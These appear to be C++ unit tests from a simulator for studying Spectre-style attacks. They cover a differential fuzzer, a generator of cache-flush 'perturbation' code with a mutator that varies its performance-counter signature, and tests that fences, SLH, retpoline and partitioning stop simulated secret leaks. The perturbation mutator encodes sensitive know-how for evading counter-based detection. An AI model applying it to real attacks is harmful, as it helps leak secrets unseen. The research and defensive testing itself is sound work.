        << entry.name << ": " << (div ? div->kind + ": " + div->detail : "");
  }
}

// Cross-check tier: the observability cache stats must reconcile exactly
// with the PMU for every corpus program, both as raw struct counters and
// after publication into the metrics registry. (The differential oracle
// also checks the raw identities on every run — this test additionally
// pins the publish_metrics plumbing.)
TEST(FuzzCorpus, CacheStatsReconcileWithPmuForAllEntries) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  for (const auto& path : corpus_files()) {
    SCOPED_TRACE(path.filename().string());
    const auto entry = load_corpus_file(path);
    const auto program =
        casm::assemble(entry.source + casm::runtime_library(),
                       {.name = "xcheck", .link_base = 0x10000});
    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/fuzz", program);
    kernel.start_with_strings("/bin/fuzz", {"fuzz"});
    if (entry.smc) {
      const auto& img = kernel.main_image();
      const auto page = sim::Memory::kPageSize;
      const auto lo = img.lo / page * page;
      const auto hi = (img.hi + page - 1) / page * page;
      machine.memory().set_permissions(
          lo, hi - lo,
          static_cast<sim::Perm>(sim::kPermRead | sim::kPermWrite |
                                 sim::kPermExec));
    }
    kernel.run(2'000'000);

    const auto& pmu = machine.pmu();
    const auto count = [&](sim::Event e) { return pmu.count(e); };
    const auto& l1d = machine.hierarchy().l1d().stats();
    const auto& l1i = machine.hierarchy().l1i().stats();
    const auto& l2 = machine.hierarchy().l2().stats();
    EXPECT_EQ(l1d.hits + l1d.misses, count(sim::Event::kL1dAccesses));
    EXPECT_EQ(l1d.misses, count(sim::Event::kL1dMisses));
    EXPECT_EQ(l1i.hits + l1i.misses, count(sim::Event::kL1iAccesses));
    EXPECT_EQ(l1i.misses, count(sim::Event::kL1iMisses));
    // Fetch-path L2 refills are booked by the PMU under kL1iMisses.
    EXPECT_EQ(l2.hits + l2.misses,
              count(sim::Event::kL2Accesses) + count(sim::Event::kL1iMisses));
    EXPECT_GE(l2.misses, count(sim::Event::kL2Misses));

    // publish_metrics adds exactly the struct counters to the registry.
    auto& reg = obs::MetricsRegistry::instance();
    const auto before = reg.counter("xcheck.cache.l1d.hits").value();
    const auto before_pmu =
        reg.counter("xcheck.pmu.l1d_accesses").value();
    machine.publish_metrics("xcheck");
    EXPECT_EQ(reg.counter("xcheck.cache.l1d.hits").value() - before, l1d.hits);
    EXPECT_EQ(reg.counter("xcheck.pmu.l1d_accesses").value() - before_pmu,
              count(sim::Event::kL1dAccesses));
  }
}

TEST(FuzzGenerator, DeterministicFromSeed) {
  for (std::uint64_t seed : {1ull, 99ull, 0xDEADBEEFull}) {
    Rng a(seed), b(seed);
    const auto pa = fuzz::generate_program(a);
    const auto pb = fuzz::generate_program(b);
    EXPECT_EQ(pa.source(), pb.source()) << "seed " << seed;
    EXPECT_EQ(pa.uses_smc, pb.uses_smc);
    EXPECT_EQ(pa.uses_rdcycle, pb.uses_rdcycle);
  }
  Rng a(1), b(2);
  EXPECT_NE(fuzz::generate_program(a).source(),
            fuzz::generate_program(b).source());
}

TEST(FuzzGenerator, ProgramsExecuteSubstantialWork) {
  // Guards against the generator degenerating into programs that fault on
  // the first instruction (which would make the oracle vacuously pass).
  int halted = 0;
  std::uint64_t total_retired = 0;
  const auto configs = fuzz::standard_configs(/*timing_blind=*/true);
  for (std::uint64_t seed = 0; seed < 20; ++seed) {
    Rng rng(derive_seed(777, seed));
    fuzz::GeneratorOptions opt;
    opt.allow_rdcycle = false;
    opt.allow_smc = (seed % 3) == 0;
    const auto program = fuzz::generate_program(rng, opt);
    const auto asm_src = program.source() + casm::runtime_library();
    casm::AssembleOptions aopt;
    aopt.name = "fuzz";
    aopt.link_base = 0x10000;
    const auto binary = casm::assemble(asm_src, aopt);
    const auto result =
        fuzz::run_under_config(binary, configs[0], {}, program.uses_smc);
    total_retired += result.retired;
    if (result.stop == sim::StopReason::kHalted && result.exit_code == 0) {
      ++halted;
    }
    EXPECT_TRUE(result.invariant_failure.empty()) << result.invariant_failure;
  }
  // All generated programs are termination-safe by construction.
  EXPECT_EQ(halted, 20);
  EXPECT_GT(total_retired / 20, 100u) << "programs are trivially short";
}

TEST(FuzzGenerator, RespectsFeatureGates) {
  for (std::uint64_t seed = 0; seed < 30; ++seed) {
    Rng rng(derive_seed(31337, seed));
    fuzz::GeneratorOptions opt;
    opt.allow_rdcycle = false;
    opt.allow_smc = false;
    const auto program = fuzz::generate_program(rng, opt);
    EXPECT_FALSE(program.uses_smc);
    EXPECT_FALSE(program.uses_rdcycle);
    const auto src = program.source();
    EXPECT_EQ(src.find("rdcycle"), std::string::npos);
  }
}

TEST(FuzzDiffer, SmallRandomSweepFindsNoDivergence) {
  // A quick in-test sweep: a real fuzzing session is the crs_fuzz tool;
  // this keeps a smoke version inside ctest.
  fuzz::RunLimits limits;
  limits.max_instructions = 200'000;
  for (std::uint64_t seed = 0; seed < 12; ++seed) {
    Rng rng(derive_seed(4242, seed));
    fuzz::GeneratorOptions opt;
    opt.allow_rdcycle = (seed % 2) == 1;
    opt.allow_smc = (seed % 3) == 0;
    const auto program = fuzz::generate_program(rng, opt);
    const auto div = fuzz::check_program(program, limits);
    EXPECT_FALSE(div.has_value())
        << "seed " << seed << ": " << (div ? div->detail : "");
  }
}

TEST(FuzzDiffer, ParallelBatchMatchesSerial) {
  const auto div = fuzz::check_parallel_batch(/*base_seed=*/5, /*count=*/4,
                                              /*threads=*/3, {});
  EXPECT_FALSE(div.has_value()) << (div ? div->detail : "");
}

TEST(FuzzDiffer, AttackLeakIdenticalAcrossExactConfigs) {
  Rng rng(17);
  const auto div = fuzz::check_attack_leak(rng);
  EXPECT_FALSE(div.has_value()) << (div ? div->detail : "");
}

TEST(FuzzMinimize, ShrinksToOracleCore) {
  // Synthetic oracle: "fails" while both marker lines survive. The
  // minimizer must strip everything else and keep exactly the core.
  fuzz::FuzzProgram prog;
  for (int i = 0; i < 40; ++i) {
    prog.lines.push_back("  nop ; filler " + std::to_string(i));
  }
  prog.lines.insert(prog.lines.begin() + 13, "MARK_A");
  prog.lines.insert(prog.lines.begin() + 29, "MARK_B");

  fuzz::MinimizeStats stats;
  const auto reduced = fuzz::minimize(
      prog,
      [](const fuzz::FuzzProgram& p) {
        const auto has = [&](const char* m) {
          return std::find(p.lines.begin(), p.lines.end(), m) != p.lines.end();
        };
        return has("MARK_A") && has("MARK_B");
      },
      /*max_oracle_calls=*/2000, &stats);

  EXPECT_EQ(reduced.lines.size(), 2u);
  EXPECT_EQ(reduced.lines[0], "MARK_A");
  EXPECT_EQ(reduced.lines[1], "MARK_B");
  EXPECT_GT(stats.lines_removed, 0);
  EXPECT_GT(stats.oracle_calls, 0);
}

TEST(FuzzMinimize, RespectsOracleBudget) {
  fuzz::FuzzProgram prog;
  for (int i = 0; i < 64; ++i) prog.lines.push_back("line");
  fuzz::MinimizeStats stats;
  fuzz::minimize(
      prog, [](const fuzz::FuzzProgram&) { return true; },
      /*max_oracle_calls=*/10, &stats);
  EXPECT_LE(stats.oracle_calls, 10 + 1);
}

}  // namespace
