#include <gtest/gtest.h>

#include "support/error.hpp"

#include <set>

#include "harness.hpp"
#include "perturb/perturb.hpp"

namespace crs::perturb {
namespace {

using sim::Event;
using sim::StopReason;

sim::PmuSnapshot run_perturb(const PerturbParams& params, int calls = 1) {
  std::string src;
  src += "_start:\n";
  src += "    movi r13, " + std::to_string(calls) + "\n";
  src += "ploop:\n";
  src += "    call perturb\n";
  src += "    addi r13, r13, -1\n";
  src += "    bnez r13, ploop\n";
  src += "    movi r1, 0\n";
  src += "    call exit_\n";
  src += generate_perturb_source(params, "perturb");
  test::SimHarness h;
  h.add_program(src, "/bin/p");
  EXPECT_EQ(h.run_program("/bin/p"), StopReason::kHalted);
  return h.machine().pmu().snapshot();
}

std::uint64_t ev(const sim::PmuSnapshot& s, Event e) {
  return s[static_cast<std::size_t>(e)];
}

TEST(Perturb, GeneratedSourceAssemblesAndRuns) {
  PerturbParams p;  // paper defaults: a=11, b=6, 10 iterations
  const auto pmu = run_perturb(p);
  EXPECT_GT(ev(pmu, Event::kClflushes), 0u);
  EXPECT_GT(ev(pmu, Event::kMfences), 0u);
}

TEST(Perturb, FlushCountMatchesAlgorithmTwo) {
  // With a=11 > loop_count=10: the `i < a` ladder fires all 10 iterations
  // (one clflush each). With b=6: the `i < b` ladder fires 6 times, two
  // clflushes each. Total = 10 + 12 = 22.
  PerturbParams p;
  const auto pmu = run_perturb(p);
  EXPECT_EQ(ev(pmu, Event::kClflushes), 22u);
  EXPECT_EQ(ev(pmu, Event::kMfences), 22u);
}

TEST(Perturb, LoopCountScalesFlushes) {
  PerturbParams small;
  small.loop_count = 6;
  PerturbParams big;
  big.loop_count = 24;
  EXPECT_GT(ev(run_perturb(big), Event::kClflushes),
            ev(run_perturb(small), Event::kClflushes));
}

TEST(Perturb, ExtraLaddersAddFlushes) {
  PerturbParams base;
  PerturbParams extra = base;
  extra.extra_ladders = 3;
  EXPECT_GT(ev(run_perturb(extra), Event::kClflushes),
            ev(run_perturb(base), Event::kClflushes));
}

TEST(Perturb, DelayDispersesInTime) {
  // Same flush count, more cycles: the delay loop spreads the perturbation
  // (paper: "use a delay loop to disperse generated perturbations").
  PerturbParams base;
  PerturbParams delayed = base;
  delayed.delay = 800;
  const auto a = run_perturb(base);
  const auto b = run_perturb(delayed);
  EXPECT_EQ(ev(a, Event::kClflushes), ev(b, Event::kClflushes));
  EXPECT_GT(ev(b, Event::kCycles), ev(a, Event::kCycles) + 800);
}

TEST(Perturb, DifferentParamsDifferentHpcPattern) {
  PerturbParams p1;
  PerturbParams p2;
  p2.a = 3;  // the a-ladder stops firing after i >= 3... (a grows, so it
             // fires while i < current a; smaller start still changes counts)
  p2.b = 12;
  p2.loop_count = 17;
  const auto s1 = run_perturb(p1);
  const auto s2 = run_perturb(p2);
  EXPECT_NE(ev(s1, Event::kClflushes), ev(s2, Event::kClflushes));
  EXPECT_NE(ev(s1, Event::kBranches), ev(s2, Event::kBranches));
}

TEST(Perturb, PerCallCostIsStable) {
  PerturbParams p;
  const auto one = run_perturb(p, 1);
  const auto three = run_perturb(p, 3);
  EXPECT_EQ(ev(three, Event::kClflushes), 3 * ev(one, Event::kClflushes));
}

TEST(Perturb, NoopPerturbIsQuiet) {
  std::string src;
  src += "_start:\n";
  src += "    call perturb\n";
  src += "    movi r1, 0\n";
  src += "    call exit_\n";
  src += generate_noop_perturb_source("perturb");
  test::SimHarness h;
  h.add_program(src, "/bin/p");
  EXPECT_EQ(h.run_program("/bin/p"), StopReason::kHalted);
  EXPECT_EQ(h.machine().pmu().count(Event::kClflushes), 0u);
}

TEST(Perturb, FlushlessLadderUsesNoFlushOrFence) {
  PerturbParams p;
  p.flushless = true;
  const auto pmu = run_perturb(p);
  EXPECT_EQ(ev(pmu, Event::kClflushes), 0u);
  EXPECT_EQ(ev(pmu, Event::kMfences), 0u);
  // The eviction walks still generate the cache contamination.
  EXPECT_GT(ev(pmu, Event::kL1dMisses), 100u);
}

TEST(Perturb, FlushlessStillEvictsItsVariables) {
  // The reload after each eviction walk must miss: misses scale with the
  // ladder activations like the clflush version's flush count does.
  PerturbParams small;
  small.flushless = true;
  small.loop_count = 6;
  PerturbParams big = small;
  big.loop_count = 24;
  EXPECT_GT(ev(run_perturb(big), Event::kL1dMisses),
            ev(run_perturb(small), Event::kL1dMisses));
}

TEST(Perturb, DescribeListsParameters) {
  PerturbParams p;
  p.a = 7;
  p.delay = 100;
  const auto d = p.describe();
  EXPECT_NE(d.find("a=7"), std::string::npos);
  EXPECT_NE(d.find("d=100"), std::string::npos);
  PerturbParams q;
  q.flushless = true;
  EXPECT_NE(q.describe().find(" fl"), std::string::npos);
}

TEST(Perturb, RejectsBadParams) {
  PerturbParams p;
  p.loop_count = 0;
  EXPECT_THROW(generate_perturb_source(p), Error);
  PerturbParams q;
  q.extra_ladders = 99;
  EXPECT_THROW(generate_perturb_source(q), Error);
}

TEST(Mutator, NeverRepeatsConsecutively) {
  VariantMutator m(PerturbParams{}, 42);
  PerturbParams prev = m.current();
  for (int i = 0; i < 50; ++i) {
    const PerturbParams next = m.next();
    EXPECT_FALSE(next == prev) << "iteration " << i;
    prev = next;
  }
  EXPECT_EQ(m.generation(), 50);
}

TEST(Mutator, DeterministicPerSeed) {
  VariantMutator a(PerturbParams{}, 7);
  VariantMutator b(PerturbParams{}, 7);
  for (int i = 0; i < 10; ++i) {
    EXPECT_TRUE(a.next() == b.next());
  }
}

TEST(Mutator, ParametersStayInValidRanges) {
  VariantMutator m(PerturbParams{}, 3);
  for (int i = 0; i < 100; ++i) {
    const auto& p = m.next();
    EXPECT_GE(p.a, 5);
    EXPECT_LE(p.a, 40);
    EXPECT_GE(p.b, 2);
    EXPECT_LE(p.b, 20);
    EXPECT_GE(p.loop_count, 6);
    EXPECT_LE(p.loop_count, 28);
    EXPECT_GE(p.extra_ladders, 0);
    EXPECT_LE(p.extra_ladders, 3);
    // Every variant must assemble.
    EXPECT_NO_THROW(generate_perturb_source(p));
  }
}

TEST(Mutator, EveryParameterBoundedOverTenThousandMutations) {
  // Algorithm 2's mutation policy over a long horizon: every field of
  // every drawn variant stays inside its documented range. Unlike the
  // 100-step test above, this also covers the step sizes, delay menu, and
  // mimic style, and is long enough to reach the RNG's rare tails.
  VariantMutator m(PerturbParams{}, 0xB07);
  for (int i = 0; i < 10'000; ++i) {
    const auto& p = m.next();
    ASSERT_GE(p.a, 5) << "mutation " << i;
    ASSERT_LE(p.a, 40) << "mutation " << i;
    ASSERT_GE(p.b, 2) << "mutation " << i;
    ASSERT_LE(p.b, 20) << "mutation " << i;
    ASSERT_GE(p.loop_count, 6) << "mutation " << i;
    ASSERT_LE(p.loop_count, 28) << "mutation " << i;
    ASSERT_GE(p.a_step, 10) << "mutation " << i;
    ASSERT_LE(p.a_step, 100) << "mutation " << i;
    ASSERT_EQ(p.a_step % 10, 0) << "mutation " << i;
    ASSERT_GE(p.b_step, 5) << "mutation " << i;
    ASSERT_LE(p.b_step, 30) << "mutation " << i;
    ASSERT_EQ(p.b_step % 5, 0) << "mutation " << i;
    ASSERT_GE(p.extra_ladders, 0) << "mutation " << i;
    ASSERT_LE(p.extra_ladders, 3) << "mutation " << i;
    ASSERT_TRUE(p.delay == 250 || p.delay == 500 || p.delay == 1000 ||
                p.delay == 2000 || p.delay == 3000 || p.delay == 4000)
        << "mutation " << i << ": delay=" << p.delay;
    const int style = static_cast<int>(p.style);
    ASSERT_GE(style, 0) << "mutation " << i;
    ASSERT_LE(style, 3) << "mutation " << i;
  }
  EXPECT_EQ(m.generation(), 10'000);
}

TEST(Mutator, TenThousandStepSequenceReproducibleFromSeed) {
  VariantMutator a(PerturbParams{}, 0x5EED);
  std::vector<PerturbParams> trace;
  trace.reserve(10'000);
  for (int i = 0; i < 10'000; ++i) trace.push_back(a.next());

  VariantMutator b(PerturbParams{}, 0x5EED);
  for (int i = 0; i < 10'000; ++i) {
    ASSERT_TRUE(b.next() == trace[static_cast<std::size_t>(i)])
        << "replay diverged at mutation " << i;
  }

  // A different seed must not replay the same sequence.
  VariantMutator c(PerturbParams{}, 0x5EED + 1);
  int same = 0;
  for (int i = 0; i < 100; ++i) {
    if (c.next() == trace[static_cast<std::size_t>(i)]) ++same;
  }
  EXPECT_LT(same, 100);
}

TEST(Mutator, VariantsProduceDiverseSignatures) {
  VariantMutator m(PerturbParams{}, 11);
  std::set<std::uint64_t> flush_counts;
  for (int i = 0; i < 8; ++i) {
    flush_counts.insert(ev(run_perturb(m.next()), Event::kClflushes));
  }
  EXPECT_GE(flush_counts.size(), 5u) << "variants should differ in HPC terms";
}

}  // namespace
}  // namespace crs::perturb
