// Tests for the mitigation subsystem: MitigationConfig round-trips, the
// fence-insertion pass (including its decode-cache coherence obligations),
// per-mitigation hardware semantics, and the end-to-end attack-vs-defense
// story the evaluation matrix depends on.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "core/defense_matrix.hpp"
#include "core/report.hpp"
#include "core/scenario.hpp"
#include "fuzz/differ.hpp"
#include "fuzz/generator.hpp"
#include "harness.hpp"
#include "mitigate/config.hpp"
#include "mitigate/fence_pass.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"
#include "support/rng.hpp"

namespace crs {
namespace {

using mitigate::MitigationConfig;
using sim::StopReason;
using test::SimHarness;

/// Flag set from a 7-bit mask, in kFlags order (for exhaustive sweeps).
MitigationConfig config_from_mask(unsigned mask) {
  MitigationConfig c;
  c.fence_bounds = (mask & 1) != 0;
  c.slh = (mask & 2) != 0;
  c.retpoline = (mask & 4) != 0;
  c.flush_predictors = (mask & 8) != 0;
  c.flush_l1 = (mask & 16) != 0;
  c.partition_cache = (mask & 32) != 0;
  c.ward_split = (mask & 64) != 0;
  return c;
}

// --- MitigationConfig parse/serialize ------------------------------------

TEST(MitigationConfig, EveryFlagCombinationRoundTrips) {
  for (unsigned mask = 0; mask < 128; ++mask) {
    const MitigationConfig c = config_from_mask(mask);
    const std::string text = c.serialize();
    EXPECT_EQ(MitigationConfig::parse(text), c) << "mask=" << mask
                                                << " text=" << text;
  }
}

TEST(MitigationConfig, PresetsAreCompleteAndCanonical) {
  const auto& names = mitigate::preset_names();
  ASSERT_FALSE(names.empty());
  EXPECT_EQ(names.front(), "none");
  EXPECT_EQ(names.back(), "full");
  for (const std::string& name : names) {
    const MitigationConfig c = mitigate::preset(name);
    // A preset name parses to its flag set and serializes back to itself.
    EXPECT_EQ(MitigationConfig::parse(name), c);
    EXPECT_EQ(c.serialize(), name);
  }
  EXPECT_FALSE(mitigate::preset("none").any());
  const MitigationConfig full = mitigate::preset("full");
  EXPECT_EQ(full, config_from_mask(127)) << "'full' must set every flag";
}

TEST(MitigationConfig, ParsesFlagListsWithWhitespace) {
  const MitigationConfig c = MitigationConfig::parse(" slh , retpoline ");
  EXPECT_TRUE(c.slh);
  EXPECT_TRUE(c.retpoline);
  EXPECT_FALSE(c.fence_bounds);
  EXPECT_EQ(c.serialize(), "slh,retpoline");
}

TEST(MitigationConfig, UnknownTokenThrowsWithListing) {
  try {
    MitigationConfig::parse("bogus-defense");
    FAIL() << "expected crs::Error";
  } catch (const Error& e) {
    const std::string msg = e.what();
    EXPECT_NE(msg.find("bogus-defense"), std::string::npos);
    EXPECT_NE(msg.find("valid presets"), std::string::npos);
    // Every preset must appear in the listing the CLI shows the user.
    for (const std::string& name : mitigate::preset_names()) {
      EXPECT_NE(msg.find(name), std::string::npos) << name;
    }
  }
  EXPECT_THROW(mitigate::preset("nope"), Error);
}

TEST(MitigationSummary, FieldTableCoversAccumulateAndTotal) {
  mitigate::MitigationSummary a, b;
  std::uint64_t expect = 0;
  std::uint64_t v = 1;
  for (const auto& f : mitigate::summary_fields()) {
    a.*(f.member) = v;
    b.*(f.member) = 2 * v;
    expect += 3 * v;
    ++v;
  }
  mitigate::accumulate(a, b);
  EXPECT_EQ(a.total_events(), expect);
  EXPECT_EQ(mitigate::MitigationSummary{}.total_events(), 0u);
}

// --- fence-insertion pass -------------------------------------------------

constexpr const char* kBoundsLoop =
    "_start:\n"
    "  movi r1, 64\n"    // len
    "  movi r2, 0\n"     // idx
    "loop:\n"
    "  cmpltu r3, r2, r1\n"
    "  beqz r3, done\n"  // bounds check: cmp feeds the branch
    "  addi r2, r2, 1\n"
    "  jmp loop\n"
    "done:\n"
    "  mov r1, r2\n"
    "  call exit_\n";

TEST(FencePass, PlantsOnBoundsChecksOnly) {
  sim::Program program = test::assemble_with_runtime(
      "_start:\n"
      "  movi r1, 8\n"
      "  cmpltu r3, r2, r1\n"
      "  beqz r3, over\n"      // compare-fed: fenced
      "over:\n"
      "  movi r4, 1\n"
      "  beqz r4, over2\n"     // movi-fed: not a bounds check
      "over2:\n"
      "  movi r1, 0\n"
      "  call exit_\n");
  const auto stats = mitigate::insert_bounds_fences(program);
  EXPECT_GE(stats.pages_scanned, 1u);
  // The runtime library contributes its own compare-fed branches, so assert
  // on relative structure via a second pass: it finds nothing new.
  const auto again = mitigate::insert_bounds_fences(program);
  EXPECT_GT(stats.fences_planted, 0u);
  EXPECT_EQ(again.fences_planted, 0u) << "pass must be idempotent";
  EXPECT_EQ(again.branches_scanned, stats.branches_scanned);
}

TEST(FencePass, HintedImageIsInertWithoutTheCpuFlag) {
  // An un-hardened machine must execute a hinted image bit-identically:
  // the hint lives in an architecturally unused encoding byte.
  sim::Program hinted = test::assemble_with_runtime(kBoundsLoop);
  const auto stats = mitigate::insert_bounds_fences(hinted);
  ASSERT_GT(stats.fences_planted, 0u);

  SimHarness plain;
  plain.add_program(kBoundsLoop, "/bin/t");
  ASSERT_EQ(plain.run_program("/bin/t"), StopReason::kHalted);

  SimHarness carrier;  // hints present, honor_fence_hints off (default)
  carrier.kernel().register_binary("/bin/t", hinted);
  carrier.kernel().start_with_strings("/bin/t", {"t"});
  ASSERT_EQ(carrier.kernel().run(10'000'000), StopReason::kHalted);

  EXPECT_EQ(carrier.kernel().exit_code(), plain.kernel().exit_code());
  EXPECT_EQ(carrier.machine().cpu().retired(), plain.machine().cpu().retired());
  EXPECT_EQ(carrier.machine().cpu().cycle(), plain.machine().cpu().cycle());
  EXPECT_EQ(carrier.machine().cpu().mitigation_stats().fence_stalls, 0u);
}

TEST(FencePass, HonoredHintsCloseTheSpeculationWindow) {
  sim::MachineConfig mcfg;
  mcfg.cpu.honor_fence_hints = true;
  sim::KernelConfig kcfg;
  SimHarness h(kcfg, mcfg);
  mitigate::MitigationConfig mit;
  mit.fence_bounds = true;
  const mitigate::Armed armed = mitigate::arm(h.kernel(), mit);
  h.add_program(kBoundsLoop, "/bin/t");
  ASSERT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
  EXPECT_GT(armed.fence_stats->fences_planted, 0u);
  const auto& ms = h.machine().cpu().mitigation_stats();
  EXPECT_GT(ms.fence_stalls, 0u);
  // The loop-exit misprediction had its wrong-path episode denied.
  EXPECT_GT(ms.fence_squashes, 0u);
}

// Satellite regression: a fence pass rewriting an already-executing page
// must invalidate the pre-decoded slots — stale un-hinted decodes would
// silently re-open the speculation window the pass just closed.
TEST(FencePass, MidRunRewriteInvalidatesDecodeCache) {
  for (const bool decode_cache : {true, false}) {
    sim::MachineConfig mcfg;
    mcfg.cpu.decode_cache = decode_cache;
    mcfg.cpu.honor_fence_hints = true;
    SimHarness h({}, mcfg);
    h.add_program(kBoundsLoop, "/bin/t");
    h.kernel().start_with_strings("/bin/t", {"t"});

    // Warm the decode cache on the un-hinted loop body.
    auto& cpu = h.machine().cpu();
    for (int i = 0; i < 40 && !cpu.halted(); ++i) cpu.step();
    ASSERT_FALSE(cpu.halted());
    ASSERT_EQ(cpu.mitigation_stats().fence_stalls, 0u)
        << "no hints may fire before the pass runs";

    // Harden the mapped image in place, mid-run.
    const auto& img = h.kernel().main_image();
    const auto stats =
        mitigate::insert_bounds_fences(h.machine().memory(), img.lo, img.hi);
    ASSERT_GT(stats.fences_planted, 0u);

    ASSERT_TRUE(h.run_to_halt(1'000'000));
    EXPECT_GT(cpu.mitigation_stats().fence_stalls, 0u)
        << "decode_cache=" << decode_cache
        << ": stale pre-pass decodes executed after the rewrite";
  }
}

// --- kernel hygiene & cache partitioning ---------------------------------

TEST(Hygiene, KernelEntryFlushesPredictorsAndL1) {
  sim::KernelConfig kcfg;
  kcfg.flush_predictors_on_switch = true;
  kcfg.flush_l1_on_switch = true;
  SimHarness h(kcfg);
  h.add_program(kBoundsLoop, "/bin/t");
  ASSERT_EQ(h.run_program("/bin/t"), StopReason::kHalted);
  const auto& ks = h.kernel().mitigation_stats();
  EXPECT_GT(ks.predictor_flushes, 0u);
  EXPECT_GT(ks.predictor_entries_flushed, 0u)
      << "the trained loop branch must have been dropped";
  EXPECT_GT(ks.l1_flushes, 0u);
  EXPECT_GT(ks.l1_lines_flushed, 0u);
  // Post-exit predictor state is scrubbed (exit_ is a syscall).
  EXPECT_EQ(h.machine().predictor().rsb().depth(), 0u);
}

TEST(Partition, CrossDomainEvictionsAreBlocked) {
  sim::CacheConfig cfg;
  cfg.size_bytes = 4 * 1024;  // 16 sets x 4 ways x 64B
  cfg.ways = 4;
  cfg.partition_ways = 2;
  sim::CacheLevel cache(cfg);
  const std::uint64_t boundary = 1 << 20;
  cache.set_partition_boundary(boundary);
  ASSERT_TRUE(cache.partition_armed());

  // Two victim lines in set 0 fit its 2 reserved ways.
  const std::uint64_t set_span = 16 * 64;
  cache.access(0 * set_span);
  cache.access(1 * set_span);
  // An attacker storm mapping to the same set must not evict them.
  for (std::uint64_t i = 0; i < 64; ++i) {
    cache.access(boundary + i * set_span);
  }
  EXPECT_TRUE(cache.access(0 * set_span)) << "victim line evicted";
  EXPECT_TRUE(cache.access(1 * set_span)) << "victim line evicted";
  EXPECT_GT(cache.stats().partition_fills, 0u);
  EXPECT_GT(cache.stats().partition_blocked, 0u)
      << "the storm should have wanted the victim ways";
}

// --- end-to-end: mitigations vs the paper's attacks ----------------------

core::ScenarioConfig standalone_pht() {
  core::ScenarioConfig cfg;
  cfg.variant = attack::SpectreVariant::kPht;
  cfg.rop_injected = false;
  cfg.secret = "S3CRET";
  cfg.seed = 7;
  return cfg;
}

TEST(DefenseE2E, UndefendedSpectreLeaksAndFenceBlocksIt) {
  core::ScenarioConfig cfg = standalone_pht();
  const core::ScenarioRun undefended = core::run_scenario(cfg);
  ASSERT_TRUE(undefended.secret_recovered)
      << "baseline broken: recovered '" << undefended.recovered << "'";
  EXPECT_EQ(undefended.mitigation.total_events(), 0u);

  cfg.mitigations = mitigate::preset("lfence-bounds");
  const core::ScenarioRun fenced = core::run_scenario(cfg);
  EXPECT_FALSE(fenced.secret_recovered)
      << "lfence-bounds failed to stop the PHT leak";
  EXPECT_GT(fenced.mitigation.fences_planted, 0u);
  EXPECT_GT(fenced.mitigation.fence_stalls, 0u);

  cfg.mitigations = mitigate::preset("slh");
  const core::ScenarioRun hardened = core::run_scenario(cfg);
  EXPECT_FALSE(hardened.secret_recovered)
      << "SLH failed to poison the transient probe";
  EXPECT_GT(hardened.mitigation.slh_masked_loads, 0u);
}

TEST(DefenseE2E, RetpolineBlocksRsbMisdirection) {
  core::ScenarioConfig cfg = standalone_pht();
  cfg.variant = attack::SpectreVariant::kRsb;
  ASSERT_TRUE(core::run_scenario(cfg).secret_recovered);
  cfg.mitigations = mitigate::preset("retpoline");
  const core::ScenarioRun defended = core::run_scenario(cfg);
  EXPECT_FALSE(defended.secret_recovered);
  EXPECT_GT(defended.mitigation.retpoline_suppressions, 0u);
}

TEST(DefenseE2E, WardSplitStopsCrSpectreCrossImageLeak) {
  core::ScenarioConfig cfg;
  cfg.variant = attack::SpectreVariant::kPht;
  cfg.rop_injected = true;
  cfg.host_scale = 3000;
  cfg.secret = "S3CRET";
  cfg.seed = 11;
  const core::ScenarioRun undefended = core::run_scenario(cfg);
  ASSERT_TRUE(undefended.secret_recovered) << "CR-Spectre baseline broken";

  cfg.mitigations = mitigate::preset("ward-split");
  const core::ScenarioRun defended = core::run_scenario(cfg);
  EXPECT_FALSE(defended.secret_recovered)
      << "unmapped host secret still leaked";
  EXPECT_GT(defended.mitigation.ward_lockouts, 0u);
  EXPECT_GT(defended.mitigation.ward_pages_locked, 0u);
  // The ward unmap is transparent to the host's architectural run.
  EXPECT_EQ(defended.profile.stop, StopReason::kHalted);
}

// Snapshot restore across the heaviest state-mutating defenses: a ward-split
// run leaves locked/unlocked page-permission churn behind and the fence pass
// rewrites the host's code pages at load time. Restoring over that wreckage
// must reproduce the exact pre-start permissions and contents (with page
// versions strictly advanced), so a session's second attempt is
// byte-identical to a fresh machine's first.
TEST(DefenseE2E, SnapshotRestoreReproducesWardSplitAndFenceRuns) {
  const bool prev = fast_reset_enabled();
  set_fast_reset_enabled(true);
  core::ScenarioConfig cfg;
  cfg.variant = attack::SpectreVariant::kPht;
  cfg.rop_injected = true;
  cfg.host_scale = 3000;
  cfg.secret = "S3CRET";
  cfg.seed = 11;
  // full = ward-split + fence rewrite + partition + flush hygiene: every
  // restore-sensitive mitigation at once.
  cfg.mitigations = mitigate::preset("full");

  const auto fingerprint = [](const core::ScenarioRun& run) {
    return core::windows_to_csv(run.profile.windows) + run.recovered + ":" +
           std::to_string(run.secret_recovered) + ":" +
           std::to_string(run.profile.cycles) + ":" +
           std::to_string(run.mitigation.total_events()) + ":" +
           std::to_string(run.mitigation.ward_lockouts) + ":" +
           std::to_string(run.mitigation.fences_planted);
  };

  core::ScenarioSession session(cfg);
  const core::ScenarioRun first = session.run_attempt(cfg.seed);
  ASSERT_TRUE(session.snapshot_mode());
  EXPECT_GT(first.mitigation.ward_lockouts, 0u)
      << "scenario never engaged the ward split — restore not exercised";
  // Attempt 2 restores over ward-locked pages and fence-rewritten text.
  const core::ScenarioRun second = session.run_attempt(cfg.seed);
  EXPECT_EQ(fingerprint(first), fingerprint(second));

  // And a fresh session agrees, under a different attempt seed too.
  const core::ScenarioRun third = session.run_attempt(cfg.seed + 13);
  core::ScenarioSession fresh(cfg);
  EXPECT_EQ(fingerprint(third), fingerprint(fresh.run_attempt(cfg.seed + 13)));
  set_fast_reset_enabled(prev);
}

// --- defense matrix -------------------------------------------------------

TEST(DefenseMatrix, QuickMatrixIsThreadCountInvariant) {
  core::DefenseMatrixConfig cfg;
  cfg.quick = true;
  cfg.seed = 5;
  cfg.presets = {"none", "lfence-bounds"};

  std::vector<std::string> csvs;
  for (const unsigned threads : {1u, 3u}) {
    set_thread_override(threads);
    const auto result = core::run_defense_matrix(cfg);
    csvs.push_back(core::matrix_csv(result) +
                   core::matrix_metrics_csv(result));
  }
  set_thread_override(0);
  EXPECT_EQ(csvs[0], csvs[1])
      << "matrix must be byte-identical for any thread count";
